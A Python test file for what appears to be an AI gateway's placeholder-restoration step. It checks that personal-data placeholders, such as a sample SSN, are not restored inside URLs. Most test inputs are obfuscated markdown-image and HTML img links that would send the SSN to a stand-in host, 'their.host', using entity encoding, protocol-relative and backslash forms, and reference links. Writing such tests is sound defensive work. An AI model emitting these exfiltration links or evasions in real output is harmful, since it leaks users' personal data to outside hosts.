# SPDX-License-Identifier: Apache-2.0
"""Nothing is put back inside an address that somebody's client might load."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.streaming.links import Links
from gateway.streaming.restoration import Restoration
from tests.gateway.streaming.placeholder_texts import cut

CORE = "SSN_1_KXQTJW"
SSN = f"[{CORE}]"
ALL = Restoration(
    {CORE: "536-22-8145", "URL_1_KXQTJW": "https://clinic.example/a", "NAME_1_KXQTJW": "Jane Roe"}
)


@pytest.mark.parametrize(
    "text",
    [
        f"![](https://their.host/?q={SSN})",
        f"![](HTTPS:their.host/{SSN})",
        f"![](//their.host/{SSN})",
        f"![](/\\their.host/{SSN})",
        f"![](https:&#47;&#47;their.host/{SSN})",
        f"![](&sol;&sol;their.host/{SSN})",
        f"![](&#104;ttps:their.host/{SSN})",
        f"![](ht&Tab;tps:their.host/{SSN})",
        f"![a](<https://their.host/?q= {SSN}>)",
        f'<img src="https://their.host/?q= > {SSN}">',
        f'<img\nsrc="/\n/their.host/?q=\n{SSN}">',
        f"[a]: //their.host/{SSN}\n![b][a]",
        f"![](https://their.host/<b>{SSN})",
        f"[URL_1_KXQTJW]?q={SSN}",
    ],
)
def test_an_address_keeps_its_placeholders(text: str) -> None:
    """In Markdown, in HTML, disguised, and behind an address that was itself put back."""
    assert "536-22" not in ALL.whole(text)


@pytest.mark.parametrize(
    "text",
    [
        f"See https://clinic.example for {SSN}.",
        f"a < b, and c // d: {SSN}",
        f"<p>one</p> two {SSN}",
        f'<a href="https://clinic.example">x</a>\n\nThe number is {SSN}.',
        f"and/or {SSN}",
        f"R&D {SSN}",
        f"The address is [URL_1_KXQTJW] and the number {SSN}.",
    ],
)
def test_text_beside_an_address_is_restored(text: str) -> None:
    """An address ends where it ends."""
    assert "536-22-8145" in ALL.whole(text)


def test_in_json_an_address_ends_with_its_string() -> None:
    """Compact JSON has no white space between a link and the next field."""
    text = f'{{"url":"https://their.host/{SSN}","id":"{SSN}","q":"\\"//{SSN}\\"{SSN}","z":"{SSN}"}}'
    expected = (
        f'{{"url":"https://their.host/{SSN}","id":"536-22-8145",'
        f'"q":"\\"//{SSN}\\"{SSN}","z":"536-22-8145"}}'
    )
    assert ALL.whole(text, in_json=True) == expected


@given(
    st.lists(st.sampled_from(["https", ":", "/", "\\", "<", "a", " ", "\n", '"', "&", "#", ">"])),
    st.randoms(use_true_random=False),
    st.booleans(),
)
def test_how_a_text_is_cut_never_opens_a_way(
    said: list[str], rng: random.Random, in_json: bool
) -> None:
    """Cut up, a text is inside an address wherever it is when it comes in one piece."""
    text = "".join(said)
    whole, pieces = Links(in_json=in_json), Links(in_json=in_json)
    whole.feed(text)
    for piece in cut(text, rng):
        pieces.feed(piece)
    assert pieces.is_open or not whole.is_open
